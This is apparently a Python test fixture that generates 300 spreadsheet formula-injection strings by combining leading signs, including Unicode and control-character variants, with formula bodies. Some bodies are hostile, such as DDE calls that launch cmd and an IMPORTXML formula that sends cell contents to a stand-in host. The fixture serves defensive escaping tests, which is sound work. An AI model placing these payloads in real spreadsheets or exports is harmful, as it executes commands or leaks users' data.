"""Three hundred texts that somebody could type to let a spreadsheet calculate (T17)."""

from itertools import product

SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\0=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u00a0@",
    "−",
)
BODIES = (
    "1+1",
    "SUM(1;1)",
    'HYPERLINK("http://a.example";"klik")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://a.example/?";A1);"//a")',
    'WEBSERVICE("http://a.example")',
    "A1",
    "2-3",
    "'x",
    '"x"',
    "x;y",
    "x\r\ny",
    "_x0041_",
    "é€😀",
    "",
    "0",
    "1e9",
    "{=1}",
    "<b>",
)
PAYLOADS = tuple(f"{sign}{body}" for sign, body in product(SIGNS, BODIES))
